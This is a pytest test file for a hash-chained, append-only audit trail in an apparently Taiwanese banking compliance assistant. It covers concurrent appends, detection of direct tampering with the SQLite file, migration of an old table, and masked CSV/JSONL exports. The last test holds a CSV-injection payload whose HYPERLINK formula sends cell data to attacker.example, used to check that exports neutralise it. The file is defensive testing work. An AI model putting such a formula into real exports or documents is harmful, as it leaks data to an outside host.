"""The hash-chained audit trail on real SQLite files: appends from many threads and processes,
tampering done straight on the file with sqlite3, the migration of an old table, the export."""

from __future__ import annotations

import csv
import hashlib
import io
import itertools
import json
import os
import sqlite3
import subprocess
import sys
from concurrent.futures import ThreadPoolExecutor
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner
from sqlalchemy import insert
from sqlalchemy.exc import IntegrityError

from assistant.answers import Answer, ToolCall
from assistant.audit import AUDIT, TAIPEI, AuditLog
from assistant.audit_chain import GENESIS_HASH, record_hash, tool_call_digest, verify_chain
from assistant.cli import cli
from assistant.errors import AssistantError, AuthError
from assistant.permissions import UserContext
from assistant.schema import open_engine, upgrade_database
from tests.cli_users import login_env

OFFICER = UserContext("officer", "compliance", None)
INVESTIGATOR = UserContext("investigator", "fraud", None)
NATIONAL_ID = "A123456789"
ROOT = Path(__file__).resolve().parents[1]


def _answer(i: int) -> Answer:
    return Answer(
        answer=f"第{i}則回答：客戶{NATIONAL_ID}的帳戶可暫停交易。",
        agent="compliance",
        tool_calls=[ToolCall("search_regulations", {"query": f"問題{i}", "k": 5}, "5 articles")],
        conversation_id=f"conv-{i}",
        route_method="only",
        latency_ms=12,  # an int on the way in, a float on the way out: the hash must not care
    )


def _record(log: AuditLog, i: int, user: UserContext = OFFICER) -> int:
    chunks = [{"id": f"c{i}", "law": "銀行法", "article": "45-2", "amended": "2019-04-17"}]
    return log.record(user, f"問題{i}：客戶{NATIONAL_ID}", _answer(i), chunks, "ab" * 32)


def _log(tmp_path: Path, name: str = "assistant.db") -> tuple[AuditLog, Path]:
    path = tmp_path / name
    return AuditLog(open_engine(f"sqlite:///{path}")), path


def _raw(path: Path) -> sqlite3.Connection:
    """The file as someone with shell access sees it: no triggers in the way."""
    conn = sqlite3.connect(path)
    conn.row_factory = sqlite3.Row
    conn.execute("DROP TRIGGER IF EXISTS audit_record_no_update")
    conn.execute("DROP TRIGGER IF EXISTS audit_record_no_delete")
    return conn


def _tamper(path: Path, how: Any) -> None:
    conn = _raw(path)
    how(conn)
    conn.commit()
    conn.close()


def _verify_cli(data_dir: Path) -> tuple[int, dict[str, Any]]:
    result = _audit_cli(data_dir, "verify", "--json")
    return result.exit_code, json.loads(result.output)


def _audit_cli(data_dir: Path, *args: str, role: str = "auditor", **kwargs: Any) -> Any:
    """`assistant audit …` as a logged-in user (an auditor unless told otherwise)."""
    return CliRunner().invoke(
        cli, ["--data-dir", str(data_dir), "audit", *args], env=login_env(data_dir, role), **kwargs
    )


@pytest.fixture
def trail(tmp_path: Path) -> tuple[AuditLog, Path]:
    """Six records in the CLI's database: five answers and one decision."""
    log, path = _log(tmp_path)
    for i in range(1, 6):
        _record(log, i)
    log.record_action(
        INVESTIGATOR,
        conversation_id="conv-5",
        action="confirm_account_flag",
        args={"account": "帳號0123456789012", "flag": "mule"},
        outcome="已確認警示 / flag confirmed",
        agent="fraud",
    )
    return log, path


def test_records_are_chained_and_carry_digests(trail: tuple[AuditLog, Path]) -> None:
    log, _ = trail
    rows = [log.get(i) for i in range(1, 7)]
    assert [r.seq for r in rows] == [1, 2, 3, 4, 5, 6]
    assert rows[0].prev_hash == GENESIS_HASH
    assert all(b.prev_hash == a.hash for a, b in itertools.pairwise(rows))
    assert all(r.hash == record_hash(r.model_dump()) for r in rows)
    call = rows[0].tool_calls[0]
    assert call["digest"] == tool_call_digest(call["name"], call["args"], call["summary"], True)
    action = rows[5]
    assert action.kind == "action" and rows[0].kind == "answer"
    assert action.question.startswith("confirm_account_flag ") and "\n" not in action.question
    assert action.answer == "已確認警示 / flag confirmed" and action.agent == "fraud"
    assert action.tool_calls[0]["name"] == "confirm_account_flag"
    assert action.tool_calls[0]["args"] == {"account": "帳號0123456789012", "flag": "mule"}
    assert action.tool_calls[0]["ok"] is True and len(action.tool_calls[0]["digest"]) == 64
    assert log.verify().ok and log.head().seq == 6 and log.head().hash == action.hash


def test_the_database_refuses_update_and_delete(trail: tuple[AuditLog, Path]) -> None:
    _, path = trail
    conn = sqlite3.connect(path)
    for sql in ("UPDATE audit_record SET answer = 'x' WHERE seq = 2", "DELETE FROM audit_record"):
        with pytest.raises(sqlite3.IntegrityError, match="append-only"):
            conn.execute(sql)


def test_a_second_record_with_the_same_seq_cannot_be_written(
    trail: tuple[AuditLog, Path],
) -> None:
    log, _ = trail
    row = log.get(3).model_dump()
    row.pop("id")
    with pytest.raises(IntegrityError), log._engine.begin() as conn:
        conn.execute(insert(AUDIT).values(**row))


def test_many_threads_appending_at_once_keep_one_chain(tmp_path: Path) -> None:
    log, path = _log(tmp_path)
    # A second engine is a second connection pool, as another process would have.
    other = AuditLog(open_engine(f"sqlite:///{path}"))

    def work(n: int) -> list[int]:
        mine = log if n % 2 else other
        ids = []
        for i in range(15):
            if i % 3:
                ids.append(_record(mine, n * 100 + i))
            else:
                ids.append(
                    mine.record_action(
                        INVESTIGATOR, conversation_id=None, action="a", args={"n": n}, outcome="ok"
                    )
                )
        return ids

    with ThreadPoolExecutor(max_workers=12) as pool:
        ids = [i for batch in pool.map(work, range(12)) for i in batch]
    assert len(set(ids)) == 12 * 15
    report = log.verify()
    assert report.ok and report.records == 12 * 15, report.to_dict()
    seqs = [r[0] for r in sqlite3.connect(path).execute("SELECT seq FROM audit_record ORDER BY id")]
    assert seqs == list(range(1, 12 * 15 + 1))


# Another process: its own interpreter, engine and connections, writing to the same file.
_APPEND_SCRIPT = """
import sys
from assistant.audit import AuditLog
from assistant.permissions import UserContext
from assistant.schema import open_engine
log = AuditLog(open_engine(f"sqlite:///{sys.argv[1]}"))
for i in range(10):
    log.record_action(UserContext(sys.argv[2], "fraud"), conversation_id=None, action="a",
                      args={"i": i}, outcome="ok")
"""


def test_several_processes_appending_at_once_keep_one_chain(tmp_path: Path) -> None:
    log, path = _log(tmp_path)
    procs = [
        subprocess.Popen([sys.executable, "-c", _APPEND_SCRIPT, str(path), f"p{n}"], cwd=ROOT)
        for n in range(3)
    ]
    for i in range(10):
        _record(log, i)
    assert [p.wait(180) for p in procs] == [0, 0, 0]
    report = log.verify()
    assert report.ok and report.records == 40, report.to_dict()


# ---- tampering --------------------------------------------------------------------------


def _swap(conn: sqlite3.Connection, a: int, b: int, columns: list[str]) -> None:
    ra = conn.execute("SELECT * FROM audit_record WHERE seq = ?", (a,)).fetchone()
    rb = conn.execute("SELECT * FROM audit_record WHERE seq = ?", (b,)).fetchone()
    # Park one row's seq out of the way: the unique index holds during the swap.
    conn.execute("UPDATE audit_record SET seq = -1 WHERE id = ?", (ra["id"],))
    sets = ", ".join(f"{c} = ?" for c in columns)
    conn.execute(
        f"UPDATE audit_record SET {sets} WHERE id = ?", (*(ra[c] for c in columns), rb["id"])
    )
    conn.execute(
        f"UPDATE audit_record SET {sets} WHERE id = ?", (*(rb[c] for c in columns), ra["id"])
    )


def _edit(conn: sqlite3.Connection) -> None:
    conn.execute("UPDATE audit_record SET answer = '沒有問題 / all fine' WHERE seq = 3")


def _delete(conn: sqlite3.Connection) -> None:
    conn.execute("DELETE FROM audit_record WHERE seq = 3")


def _delete_tail(conn: sqlite3.Connection) -> None:
    conn.execute("DELETE FROM audit_record WHERE seq = 6")


def _swap_rows(conn: sqlite3.Connection) -> None:
    """Rows 3 and 5 trade every column but id: each record, hash and link stays valid."""
    columns = [r[1] for r in conn.execute("PRAGMA table_info(audit_record)") if r[1] != "id"]
    _swap(conn, 3, 5, columns)


def _reorder_and_rehash(conn: sqlite3.Connection) -> None:
    """Records 3 and 4 trade places and the tamperer recomputes both hashes (sha256 is public)."""
    _swap(conn, 3, 4, ["seq"])
    for row in conn.execute("SELECT * FROM audit_record WHERE seq IN (3, 4)").fetchall():
        fields = dict(zip(row.keys(), row, strict=True))
        fields["chunks"] = json.loads(fields["chunks"])
        fields["tool_calls"] = json.loads(fields["tool_calls"])
        conn.execute(
            "UPDATE audit_record SET hash = ? WHERE id = ?", (record_hash(fields), row["id"])
        )


def _insert_outside(conn: sqlite3.Connection) -> None:
    found = conn.execute("SELECT * FROM audit_record WHERE seq = 2").fetchone()
    row = dict(zip(found.keys(), found, strict=True))
    row.update(id=None, seq=None, prev_hash=None, hash=None, answer="補登 / backfilled")
    names = ", ".join(row)
    conn.execute(
        f"INSERT INTO audit_record ({names}) VALUES ({', '.join('?' for _ in row)})",
        tuple(row.values()),
    )


@pytest.mark.parametrize(
    ("tamper", "seq", "reason"),
    [
        (_edit, 3, "edited"),
        (_delete, 3, "deleted"),
        (_delete_tail, 6, "deleted"),
        (_swap_rows, 3, "reordered"),
        (_reorder_and_rehash, 3, "reordered"),
        (_insert_outside, None, "unchained"),
    ],
)
def test_verify_finds_tampering(
    trail: tuple[AuditLog, Path], tamper: Any, seq: int | None, reason: str
) -> None:
    log, path = trail
    assert log.verify().ok
    _tamper(path, tamper)
    report = log.verify()
    assert not report.ok
    assert report.first is not None
    assert (report.first.seq, report.first.reason) == (seq, reason), report.to_dict()
    code, data = _verify_cli(path.parent)
    assert code == 1
    assert (data["first_bad_seq"], data["first_reason"]) == (seq, reason)


def test_verify_cli_on_an_intact_chain(trail: tuple[AuditLog, Path]) -> None:
    _, path = trail
    code, data = _verify_cli(path.parent)
    assert code == 0 and data["ok"] and data["records"] == 6 and data["problems"] == []
    # Reading the trail is itself recorded: the first check is record 7.
    result = _audit_cli(path.parent, "verify")
    assert result.exit_code == 0 and "稽核鏈完整 / audit chain intact: 7" in result.output
    _tamper(path, _edit)
    result = _audit_cli(path.parent, "verify")
    assert result.exit_code == 1
    assert "broken at seq 3" in result.output and "hash mismatch" in result.output


# ---- migration --------------------------------------------------------------------------

# audit_record as the schema before the chain made it (SQLModel's DDL of that day).
_OLD_SCHEMA = """
CREATE TABLE audit_record (
    id INTEGER NOT NULL, created_at DATETIME NOT NULL, user_name VARCHAR NOT NULL,
    user_role VARCHAR NOT NULL, conversation_id VARCHAR NOT NULL, question TEXT NOT NULL,
    agent VARCHAR NOT NULL, route_method VARCHAR NOT NULL, chunks JSON, tool_calls JSON,
    answer TEXT NOT NULL, model VARCHAR NOT NULL, model_sha256 VARCHAR NOT NULL,
    generated BOOLEAN NOT NULL, no_basis BOOLEAN NOT NULL, refused VARCHAR,
    llm_calls INTEGER NOT NULL, latency_ms FLOAT NOT NULL, model_ms FLOAT NOT NULL,
    PRIMARY KEY (id)
);
CREATE INDEX ix_audit_record_created_at ON audit_record (created_at);
CREATE INDEX ix_audit_record_user_name ON audit_record (user_name);
CREATE INDEX ix_audit_record_conversation_id ON audit_record (conversation_id);
"""


def test_an_old_table_is_migrated_and_its_rows_sealed_once(tmp_path: Path) -> None:
    path = tmp_path / "assistant.db"
    conn = sqlite3.connect(path)
    conn.executescript(_OLD_SCHEMA)
    for i in range(1, 4):
        conn.execute(
            "INSERT INTO audit_record VALUES (NULL, ?, 'old', 'compliance', ?, ?, 'compliance', "
            "'only', ?, ?, ?, 'none', '', 0, 0, NULL, 0, ?, 0.0)",
            (
                f"2024-01-0{i} 08:00:00.000000",
                f"c{i}",
                f"舊問題{i}",
                json.dumps([{"law": "銀行法", "article": "45-2"}]),
                json.dumps([{"name": "search_regulations", "args": {"q": i}, "ok": True}]),
                f"舊回答{i}",
                10 * i,  # an integer where a float belongs, as older rows may hold
            ),
        )
    conn.commit()
    conn.close()

    # A start on it is refused until the operator upgrades (`assistant db upgrade`).
    with pytest.raises(AssistantError, match="assistant db upgrade"):
        _log(tmp_path)
    done = upgrade_database(f"sqlite:///{path}")
    assert done.before is None and done.changed
    log, _ = _log(tmp_path)
    columns = {r[1] for r in sqlite3.connect(path).execute("PRAGMA table_info(audit_record)")}
    assert {"seq", "prev_hash", "hash", "kind"} <= columns
    head = log.head()
    assert head.seq == 3 and head.sealed_through == 3 and head.sealed_at is not None
    old = [log.get(i) for i in (1, 2, 3)]
    assert [r.seq for r in old] == [1, 2, 3] and all(r.kind == "answer" for r in old)
    assert old[0].question == "舊問題1" and old[2].latency_ms == 30.0  # content left as found
    new_id = _record(log, 4)
    assert log.get(new_id).seq == 4 and log.get(new_id).prev_hash == old[2].hash
    # A second upgrade changes nothing: the seal happens once.
    assert not upgrade_database(f"sqlite:///{path}").changed
    again = AuditLog(open_engine(f"sqlite:///{path}"))
    assert again.head() == log.head()
    report = again.verify()
    assert report.ok and report.records == 4
    assert report.to_dict()["head"]["sealed_through"] == 3
    # The append-only rules hold for the migrated table too.
    raw = sqlite3.connect(path)
    with pytest.raises(sqlite3.IntegrityError):
        raw.execute("DELETE FROM audit_record WHERE id = 1")
    # Closed now: the failed DELETE left its transaction open, and an unreferenced sqlite3
    # connection is freed only by a later garbage collection, holding the write lock till then.
    raw.close()
    result = _audit_cli(tmp_path, "verify")
    assert result.exit_code == 0 and "seq 1–3" in result.output and "migration" in result.output
    # And so does the head: a deleted sealed row is found like any other.
    _tamper(path, _delete)
    assert (again.verify().first.seq, again.verify().first.reason) == (3, "deleted")  # type: ignore[union-attr]


# ---- export -----------------------------------------------------------------------------


def _taipei_today() -> str:
    return datetime.now(UTC).astimezone(TAIPEI).date().isoformat()


def _roc(day: str) -> str:
    y, m, d = (int(x) for x in day.split("-"))
    return f"民國{y - 1911}年{m}月{d}日"


def _export(data_dir: Path, *args: str, role: str = "admin") -> Any:
    return _audit_cli(data_dir, "export", *args, role=role)


def test_export_jsonl_with_manifest_masked_by_default(trail: tuple[AuditLog, Path]) -> None:
    log, path = trail
    today = _taipei_today()
    out = path.parent / "export.jsonl"
    result = _export(path.parent, "--from", _roc(today), "--to", today, "--out", str(out))
    assert result.exit_code == 0, result.output
    data = out.read_bytes()
    file_sha = hashlib.sha256(data).hexdigest()
    assert f"sha256 {file_sha}" in result.output
    assert (path.parent / "export.jsonl.sha256").read_text().split() == [file_sha, "export.jsonl"]
    head_line, body = data.split(b"\n", 1)
    manifest = json.loads(head_line)
    assert manifest["type"] == "manifest" and manifest["count"] == 6 and manifest["masked"]
    assert manifest["from"] == manifest["to"] == today
    assert manifest["chain_head"] == {"seq": 6, "hash": log.get(6).hash}
    assert (
        manifest["chain_verified"]
        and manifest["records_sha256"] == hashlib.sha256(body).hexdigest()
    )
    assert manifest["exported_by"]["role"] == "admin"
    records = [json.loads(line) for line in body.splitlines()]
    assert [r["seq"] for r in records] == [1, 2, 3, 4, 5, 6]
    assert all(r["hash"] and r["prev_hash"] for r in records)
    text = body.decode("utf-8")
    assert NATIONAL_ID not in text and "0123456789012" not in text and "A12****789" in text
    # The links still check out on masked lines; the records' own hashes need the originals.
    assert all(b["prev_hash"] == a["hash"] for a, b in itertools.pairwise(records))
    # The export is itself on the trail.
    exported = log.get(7)
    assert exported.kind == "action" and exported.tool_calls[0]["name"] == "audit_export"
    assert file_sha in exported.answer


def test_unmasked_export_verifies_line_by_line_and_needs_a_role(
    trail: tuple[AuditLog, Path],
) -> None:
    _, path = trail
    today = _taipei_today()
    out = path.parent / "full.jsonl"
    denied = _export(path.parent, "--from", today, "--to", today, "--unmasked", role="fraud")
    assert denied.exit_code == 1 and "audit.read" in denied.output
    ok = _export(
        path.parent,
        "--from",
        today,
        "--to",
        today,
        "--out",
        str(out),
        "--unmasked",
        "--json",
        role="auditor",
    )
    assert ok.exit_code == 0, ok.output
    assert json.loads(ok.output)["masked"] is False
    lines = out.read_text("utf-8").splitlines()
    records = [json.loads(line) for line in lines[1:]]
    assert NATIONAL_ID in lines[1]
    # A regulator can check the exported chain with nothing but the lines themselves.
    assert verify_chain(records, None).ok
    records[2]["answer"] = "改過 / changed"
    assert verify_chain(records, None).first.reason == "edited"  # type: ignore[union-attr]


def test_export_csv_and_an_empty_range(
    trail: tuple[AuditLog, Path], monkeypatch: pytest.MonkeyPatch
) -> None:
    _, path = trail
    today = _taipei_today()
    out = path.parent / "x.csv"
    result = _export(
        path.parent, "--from", today, "--to", today, "--out", str(out), "--format", "csv"
    )
    assert result.exit_code == 0, result.output
    first, rest = out.read_text("utf-8").split("\n", 1)
    assert first.startswith("# ") and json.loads(first[2:])["count"] == 6
    rows = list(csv.DictReader(io.StringIO(rest)))
    assert [int(r["seq"]) for r in rows] == [1, 2, 3, 4, 5, 6]
    assert json.loads(rows[0]["tool_calls"])[0]["digest"]
    last_year = (datetime.now(TAIPEI) - timedelta(days=400)).date().isoformat()
    monkeypatch.chdir(path.parent)  # without --out the file goes to the working folder
    empty = _export(path.parent, "--from", last_year, "--to", last_year, "--json")
    assert empty.exit_code == 0 and json.loads(empty.output)["count"] == 0
    assert (
        path.parent / f"audit-{last_year.replace('-', '')}-{last_year.replace('-', '')}.jsonl"
    ).is_file()
    bad = _export(path.parent, "--from", "2024-13-01", "--to", today)
    assert bad.exit_code == 2 and "日期" in bad.output


def test_the_audit_desk_refuses_other_roles_and_records_it(trail: tuple[AuditLog, Path]) -> None:
    from assistant.desks.audit import AuditDesk

    log, path = trail
    day = datetime.now(TAIPEI).date()
    desk = AuditDesk(log)
    with pytest.raises(AuthError):
        desk.export(INVESTIGATOR, path.parent / "x.jsonl", day, day, unmasked=True)
    assert not (path.parent / "x.jsonl").exists()
    refused = log.recent(1)[0]
    assert refused.user_name == "investigator" and refused.tool_calls[0]["name"] == "access_denied"
    with pytest.raises(AuthError):
        desk.recent(INVESTIGATOR)
    assert log.verify().ok


# ---- show and list ----------------------------------------------------------------------


def test_show_and_list(trail: tuple[AuditLog, Path]) -> None:
    _, path = trail
    env = login_env(path.parent, "auditor")

    def run(_cli: Any, args: list[str], env: dict[str, str] = env) -> Any:
        return CliRunner().invoke(_cli, args, env=env)

    base = ["--data-dir", str(path.parent), "audit"]
    shown = run(cli, [*base, "show", "6", "--json"])
    assert shown.exit_code == 0, shown.output
    record = json.loads(shown.output)
    assert record["seq"] == 6 and record["kind"] == "action" and len(record["hash"]) == 64
    text = run(cli, [*base, "show", "1"])
    assert "hash: " in text.output and "digest " in text.output
    missing = run(cli, [*base, "show", "999"])
    assert missing.exit_code == 1 and "no such audit record" in missing.output
    # The two reads shown above are on the trail (the missing record was not read).
    listed = json.loads(run(cli, [*base, "list", "--limit", "3", "--json"]).output)
    assert [r["seq"] for r in listed] == [8, 7, 6]
    assert (
        listed[0]["question"].startswith("audit.show") and listed[0]["user_name"] == "cli-auditor"
    )
    mine = json.loads(run(cli, [*base, "list", "--of", "investigator", "--json"]).output)
    assert {r["user_name"] for r in mine} == {"investigator"}
    plain = run(cli, [*base, "list", "--limit", "50"])
    assert plain.exit_code == 0 and "confirm_account_flag" in plain.output
    # The auditor reads identifiers as written; other roles may not read the trail at all.
    assert NATIONAL_ID in run(cli, [*base, "show", "1", "--json"]).output
    refused = run(cli, [*base, "show", "1", "--json"], env=login_env(path.parent, "fraud"))
    assert refused.exit_code == 1 and NATIONAL_ID not in refused.output


# ---- PostgreSQL (opt-in) ----------------------------------------------------------------

PG_URL = os.environ.get("ASSISTANT_TEST_POSTGRES_URL")


@pytest.mark.skipif(not PG_URL, reason="set ASSISTANT_TEST_POSTGRES_URL to an empty database")
def test_postgres_appends_serialise_and_refuse_edits() -> None:
    from sqlalchemy import create_engine, text

    assert PG_URL
    wipe = create_engine(PG_URL)
    with wipe.begin() as conn:  # start from an empty database: the gate then makes it
        conn.execute(text("DROP SCHEMA public CASCADE"))
        conn.execute(text("CREATE SCHEMA public"))
    wipe.dispose()
    engine = open_engine(PG_URL)
    log = AuditLog(engine)
    other = AuditLog(open_engine(PG_URL))

    def work(n: int) -> None:
        for i in range(10):
            _record(log if n % 2 else other, n * 100 + i)

    with ThreadPoolExecutor(max_workers=8) as pool:
        list(pool.map(work, range(8)))
    report = log.verify()
    assert report.ok and report.records == 80, report.to_dict()
    with pytest.raises(Exception, match="append-only"), engine.begin() as conn:
        conn.execute(text("UPDATE audit_record SET answer = 'x' WHERE seq = 3"))
    with engine.begin() as conn:  # what a DBA could do: drop the guard, then edit
        conn.execute(text("ALTER TABLE audit_record DISABLE TRIGGER USER"))
        conn.execute(text("UPDATE audit_record SET answer = 'x' WHERE seq = 3"))
        conn.execute(text("ALTER TABLE audit_record ENABLE TRIGGER USER"))
    first = log.verify().first
    assert first is not None and (first.seq, first.reason) == (3, "edited")
    engine.dispose()


def test_a_question_that_reads_as_a_formula_is_text_in_the_csv(
    trail: tuple[AuditLog, Path],
) -> None:
    """CSV injection: a user's question opened by an auditor in a spreadsheet is not run."""
    log, path = trail
    evil = '=HYPERLINK("http://attacker.example/?"&A1,"點此")'
    log.record(OFFICER, evil, _answer(7), [], "ab" * 32)
    out = path.parent / "f.csv"
    today = _taipei_today()
    result = _export(
        path.parent, "--from", today, "--to", today, "--out", str(out), "--format", "csv"
    )
    assert result.exit_code == 0, result.output
    rows = list(csv.DictReader(io.StringIO(out.read_text("utf-8").split("\n", 1)[1])))
    assert rows[-1]["question"] == "'" + evil
    assert not any(v.startswith(("=", "+", "-", "@")) for r in rows for v in r.values() if v)
    assert log.verify().ok  # the record itself is as asked
